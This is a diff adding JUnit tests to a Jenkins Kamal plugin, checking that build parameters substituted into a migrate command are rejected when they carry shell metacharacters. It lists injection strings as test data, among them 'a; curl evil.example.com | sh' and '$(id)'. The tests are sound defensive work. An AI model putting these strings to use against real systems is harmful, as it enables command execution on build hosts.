@@ -7,6 +7,8 @@ import hudson.AbortException;
 import hudson.EnvVars;
 import io.jenkins.plugins.kamal.step.FieldText;
 import io.jenkins.plugins.kamal.step.KamalCommandStep;
+import io.jenkins.plugins.kamal.step.KamalDeployStep;
+import io.jenkins.plugins.kamal.step.KamalPlanStep;
 import java.util.List;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -46,6 +48,69 @@ class HostileParameterTest {
         assertThat(words("app exec -- ls ${VALUE}", "-l")).isEqualTo(List.of("app", "exec", "--", "ls", "-l"));
         assertThat(words("app logs --hosts=${VALUE} -n 5", "-x"))
                 .isEqualTo(List.of("app", "logs", "--hosts=-x", "-n", "5"));
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "a; curl evil.example.com | sh",
+                "$(id)",
+                "`id`",
+                "a b",
+                "a\nid",
+                "'; id; '",
+                "\"; id; \"",
+                "a\\",
+                "-x",
+                "*",
+                "~root",
+                "#",
+            })
+    void aValueIsOneHarmlessWordOfAMigration(String value) {
+        for (String quote : List.of("", "'", "\"")) {
+            assertThatThrownBy(() -> migration("bin/migrate " + quote + "${VALUE}" + quote, value))
+                    .isInstanceOf(AbortException.class)
+                    .hasMessageContaining("The value of the variable VALUE cannot be a part of migrate");
+            for (String option : List.of("--migrate=", "--migrate ")) {
+                String word = "'bin/migrate ${VALUE}'";
+                assertThatThrownBy(() -> words("deploy " + option + word, value))
+                        .isInstanceOf(AbortException.class)
+                        .hasMessageContaining("cannot be a part of --migrate");
+            }
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"2024-10-01", "shop:eu/west_1@2.0", "größe"})
+    void aMigrationMayHavePlainValues(String value) throws Exception {
+        assertThat(migration("bin/migrate --to \"$VALUE\"", value))
+                .isEqualTo("--migrate=bin/migrate --to \"" + value + "\"");
+    }
+
+    @Test
+    void theAuthorMayLeaveTheWholeMigrationToWhoeverStartsTheBuild() throws Exception {
+        assertThat(migration("${VALUE}", "bin/rails db:migrate && bin/seed"))
+                .isEqualTo("--migrate=bin/rails db:migrate && bin/seed");
+    }
+
+    private static String migration(String command, String value) throws AbortException {
+        FieldText text = FieldText.expandedBy(new EnvVars("VALUE", value));
+        KamalDeployStep deploy = new KamalDeployStep();
+        deploy.setMigrate(command);
+        KamalPlanStep plan = new KamalPlanStep();
+        plan.setMigrate(command);
+        try {
+            new KamalPlanBuilder(plan).request(text);
+        } catch (AbortException e) {
+            assertThatThrownBy(() -> new KamalDeployBuilder(deploy).request(text))
+                    .isInstanceOf(AbortException.class);
+            throw e;
+        }
+        return new KamalDeployBuilder(deploy)
+                .request(text).options().stream()
+                        .filter(word -> word.startsWith("--migrate"))
+                        .findFirst()
+                        .orElse("");
     }
 
     private static List<String> words(String command, String value) throws AbortException {
